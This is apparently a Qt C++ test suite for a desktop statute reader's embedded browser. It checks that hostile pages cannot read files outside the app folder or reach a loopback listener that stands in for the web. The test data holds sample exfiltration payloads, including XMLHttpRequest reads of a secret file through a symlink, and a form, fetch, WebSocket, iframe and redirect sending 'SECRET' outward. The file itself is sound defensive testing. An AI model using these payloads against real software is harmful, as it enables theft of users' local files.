// A statute's page that tries to read the person's files and send them
// out, driven by the person's pointer. A listener on the loopback stands for
// the web and must hear nothing; the desktop's browser is stood in for.
#include "shell/reader_page.h"
#include "shell/web_browser.h"
#include "tests/support/page_script.h"

#include <QDesktopServices>
#include <QFile>
#include <QSignalSpy>
#include <QTcpServer>
#include <QTemporaryDir>

#include <memory>

class HostilePageTest : public QObject {
    Q_OBJECT

    QTemporaryDir root_;
    QTcpServer listener_;
    QList<QUrl> desktop_;

    QString app(const QString& name = {}) const { return root_.filePath("app/" + name); }
    QString net() const { return QStringLiteral("127.0.0.1:%1/x?SECRET").arg(listener_.serverPort()); }

    void write(const QString& path, const QByteArray& bytes)
    {
        QFile file(path);
        QVERIFY(file.open(QIODevice::WriteOnly) && file.write(bytes) == bytes.size());
    }

public slots:
    void openOnDesktop(const QUrl& url) { desktop_ << url; }

private slots:
    void initTestCase()
    {
        QVERIFY(root_.isValid() && QDir(root_.path()).mkdir("app"));
        QVERIFY(listener_.listen(QHostAddress::LocalHost));
        write(root_.filePath("secret.html"), "<p>SECRET</p>");
        write(app("inside.txt"), "INSIDE");
        write(app("index.html"), "<frameset rows=\"*\"><frame name=\"T\" src=\"hostile.html\"></frameset>");
        QVERIFY(QFile::link(root_.filePath("secret.html"), app("out.html")));
        for (const char* scheme : {"http", "https", "mailto"})
            QDesktopServices::setUrlHandler(scheme, this, "openOnDesktop");
    }

    void cleanupTestCase()
    {
        for (const char* scheme : {"http", "https", "mailto"})
            QDesktopServices::unsetUrlHandler(scheme);
    }

    // Each page covers its frame with one element that the person clicks.
    // `attempt` runs on a button's click; `end` says the attempt is over.
    // An empty `ended` marks a navigation, which the page never hears the
    // end of: the reader's refusal ends it.
    void nothingLeavesTheFolder_data()
    {
        QTest::addColumn<QString>("page");     // LISTENER and OUTSIDE: the addresses
        QTest::addColumn<QString>("ended");    // what `end` must have been told
        QTest::addColumn<QString>("desktop");  // the address handed to the desktop
        const QString read = "<button id='go' onclick='attempt()'>go</button><script>function attempt() {"
                             "const x = new XMLHttpRequest(); x.open('GET', '%1', %2);"
                             "x.onload = () => end(x.responseText); x.onerror = () => end('refused');"
                             "try { x.send(); if (!%2) end(x.responseText); } catch (e) { end('refused'); } }</script>";
        QTest::newRow("sync read outside") << read.arg("OUTSIDE", "false") << "refused" << "";
        QTest::newRow("sync read inside") << read.arg("inside.txt", "false") << "INSIDE" << "";
        QTest::newRow("async read outside") << read.arg("OUTSIDE", "true") << "refused" << "";
        QTest::newRow("async read inside") << read.arg("inside.txt", "true") << "INSIDE" << "";
        const QString made = "<button id='go' onclick='attempt()'>go</button><script>function attempt() {"
                             "const e = %1; e.onload = () => end('loaded'); e.onerror = () => end('refused');"
                             "document.body.append(e); }</script>";
        QTest::newRow("image") << made.arg("new Image(); e.src = 'http://LISTENER'") << "refused" << "";
        QTest::newRow("stylesheet")
            << made.arg("document.createElement('link'); e.rel = 'stylesheet'; e.href = 'http://LISTENER'") << "refused" << "";
        QTest::newRow("fetch") << "<button id='go' onclick=\"fetch('http://LISTENER').then(() => end('loaded'), () => end('refused'))\">go</button>"
                               << "refused" << "";
        QTest::newRow("WebSocket") << "<button id='go' onclick=\"const s = new WebSocket('ws://LISTENER'); s.onopen = () => "
                                      "end('open'); s.onclose = () => end('closed')\">go</button>"
                                   << "closed" << "";
        QTest::newRow("frame") << "<button id='go' onclick=\"const f = document.createElement('iframe'); "
                                  "f.src = 'http://LISTENER'; document.body.append(f)\">go</button>" << "" << "";
        QTest::newRow("form") << "<form action='http://LISTENER' method='post'><input name='a' value='SECRET'>"
                                 "<button id='go'>go</button></form>" << "" << "";
        QTest::newRow("script navigation") << "<button id='go' onclick=\"top.location = 'http://LISTENER'\">go</button>" << "" << "";
        QTest::newRow("refresh") << "<meta http-equiv='refresh' content='0; url=http://LISTENER'><button id='go'>go</button>"
                                 << "" << "";
        QTest::newRow("a script clicks a web link") << "<a id='web' href='http://LISTENER' target='_top'>web</a>"
                                                       "<button id='go' onclick=\"document.getElementById('web').click()\">go</button>"
                                                    << "" << "";
        QTest::newRow("the person clicks a web link") << "<a id='go' href='http://LISTENER' target='_top'>go</a>" << ""
                                                      << "http://LISTENER";
        QTest::newRow("link outside") << "<a id='go' href='OUTSIDE' target='_top'>go</a>" << "" << "";
        QTest::newRow("frame through a link pointing outside") << "<button id='go' onclick=\"const f = document.createElement("
                                                                 "'iframe'); f.src = 'out.html'; document.body.append(f)\">go</button>"
                                                              << "" << "";
    }

    void nothingLeavesTheFolder()
    {
        QFETCH(QString, page);
        QFETCH(QString, ended);
        QFETCH(QString, desktop);
        const QString outside = QUrl::fromLocalFile(root_.filePath("secret.html")).toString();
        page.replace("LISTENER", net()).replace("OUTSIDE", outside);
        write(app("hostile.html"), "<!DOCTYPE html><html><head><style>#go { position: fixed; inset: 0; }</style>"
                                   "<script>function end(what) { document.title = 'ended ' + what; }</script></head>"
                                   "<body><p id='statute'>Clen 1</p>" + page.toUtf8() + "</body></html>");
        desktop_.clear();
        WebBrowser view(app());
        view.resize(600, 400);
        view.show();
        QVERIFY(QTest::qWaitForWindowExposed(&view));
        QSignalSpy refused(qobject_cast<ReaderPage*>(view.page()), &ReaderPage::navigationRefused);
        QSignalSpy loaded(&view, &QWebEngineView::loadFinished);
        view.Navigate(app("index.html"));
        QVERIFY(waitUntil([&] { return !loaded.isEmpty() && allFramesComplete(view.page()); }));
        // The page's own refresh needs no click.
        if (!page.contains("refresh"))
            QTest::mouseClick(view.focusProxy(), Qt::LeftButton, {}, view.rect().center());

        const auto title = [&] { return runScript(view.page(), inFrame("T", "document.title")).toString(); };
        const auto heard = [&] { return listener_.hasPendingConnections(); };
        if (ended.isEmpty())
            QVERIFY(waitUntil([&] { return !refused.isEmpty() || heard(); }));
        else
            QVERIFY(waitUntil([&] { return title().startsWith("ended") || heard(); }));
        QVERIFY2(!heard(), "the listener was reached");
        if (!ended.isEmpty())
            QCOMPARE(title(), "ended " + ended);
        QCOMPARE(desktop_, desktop.isEmpty() ? QList<QUrl>{} : QList<QUrl>{QUrl(desktop.replace("LISTENER", net()))});

        // The statute stays, and nothing is left loading.
        QVERIFY(waitUntil([&] { return !view.page()->isLoading(); }));
        QCOMPARE(view.url(), QUrl::fromLocalFile(app("index.html")));
        QCOMPARE(runScript(view.page(), inFrame("T", "document.getElementById('statute').textContent")).toString(), "Clen 1");
    }
};

QTEST_MAIN(HostilePageTest)
#include "hostile_page_test.moc"
